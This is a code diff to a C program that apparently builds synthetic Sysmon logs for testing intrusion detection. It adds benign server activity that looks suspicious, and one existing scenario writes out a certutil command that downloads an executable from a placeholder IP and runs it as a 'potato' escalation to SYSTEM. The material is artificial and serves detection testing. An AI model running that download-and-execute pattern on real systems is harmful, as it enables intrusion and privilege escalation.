@@ -512,6 +512,7 @@ static void iis_download(story *s, host *h, const proc *server)
     wait_ms(h, 8000);
     run(s, h, &ps, SYS32 "certutil.exe",
         "certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Windows\\Temp\\p.exe");
+    run(s, h, &ps, SYS32 "notepad.exe", "notepad.exe");
     proc potato = child(s, h, &ps, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe -c cmd.exe");
     wait_ms(h, 1200);
     proc root = start(s, h, &potato, SYS32 "cmd.exe", "cmd.exe", SYSTEM_USER, "System");
@@ -696,10 +697,37 @@ static void clean_servers(story *s, host *h)
                        "\"C:\\Apache24\\bin\\httpd.exe\" -k runservice", SYSTEM_USER, "System");
     proc worker = child(s, h, &httpd, "C:\\Apache24\\bin\\httpd.exe",
                         "C:\\Apache24\\bin\\httpd.exe -d C:/Apache24");
-    proc pipe = child(s, h, &worker, SYS32 "cmd.exe", "cmd.exe /c \"D:\\site\\bin\\thumbnail.bat\"");
+    proc nginx = start(s, h, &services, "C:\\nginx\\nginx.exe", "nginx.exe", LOCAL_SERVICE, "System");
+    proc pipe = child(s, h, &nginx, SYS32 "cmd.exe", "cmd.exe /c \"D:\\site\\bin\\thumbnail.bat\"");
     run(s, h, &pipe, "D:\\site\\bin\\convert.exe", "convert.exe in.tif out.jpg");
     end(s, h, &pipe);
     run(s, h, &worker, "C:\\Apache24\\bin\\rotatelogs.exe", "rotatelogs.exe logs/access.log 86400");
+}
+
+/* What servers ask of the system, which looks like an intruder's questions. */
+static void clean_questions(story *s, host *h)
+{
+    proc services = services_of(h);
+    proc java = start(s, h, &services, "C:\\ManageEngine\\jre\\bin\\java.exe",
+                      "\"C:\\ManageEngine\\jre\\bin\\java.exe\" -Dcatalina.home=C:\\ManageEngine "
+                      "org.apache.catalina.startup.Bootstrap",
+                      SYSTEM_USER, "System");
+    proc cmd = child(s, h, &java, SYS32 "cmd.exe", "cmd.exe /c \"C:\\ManageEngine\\bin\\elasticsearch.bat\" -d");
+    run(s, h, &cmd, "C:\\ManageEngine\\jre\\bin\\java.exe",
+        "java.exe -cp lib\\* org.elasticsearch.bootstrap.Elasticsearch");
+    end(s, h, &cmd);
+    run(s, h, &java, SYS32 "sc.exe", "sc query ManageEngineDb");
+    run(s, h, &java, SYS32 "net.exe", "net start ManageEngineDb");
+    proc node = start(s, h, &services, "C:\\Program Files\\nodejs\\node.exe",
+                      "\"C:\\Program Files\\nodejs\\node.exe\" D:\\site\\server.js", "CORP\\svc-web",
+                      "High");
+    proc sh = child(s, h, &node, SYS32 "cmd.exe",
+                    SYS32 "cmd.exe /d /s /c \"netstat -ano | findstr :3000 | findstr LISTENING\"");
+    run(s, h, &sh, SYS32 "netstat.exe", "netstat  -ano ");
+    end(s, h, &sh);
+    sh = child(s, h, &node, SYS32 "cmd.exe", SYS32 "cmd.exe /d /s /c \"git rev-parse HEAD\"");
+    run(s, h, &sh, "C:\\Program Files\\Git\\cmd\\git.exe", "git  rev-parse HEAD");
+    end(s, h, &sh);
 }
 
 /* Programs that only look like servers. */
@@ -734,6 +762,7 @@ static void tell_clean(story *s)
     background(s, &h, 12);
     clean_desktop(s, &h);
     clean_lookalikes(s, &h);
+    clean_questions(s, &h);
     background(s, &h, 12);
     finish(s, h.log, "clean", "Microsoft-Windows-Sysmon%4Operational.evtx");
     host old = new_host(s, "OLD04", 0xA1B20004, 16, "2026-03-04T07:00:00Z", NULL);
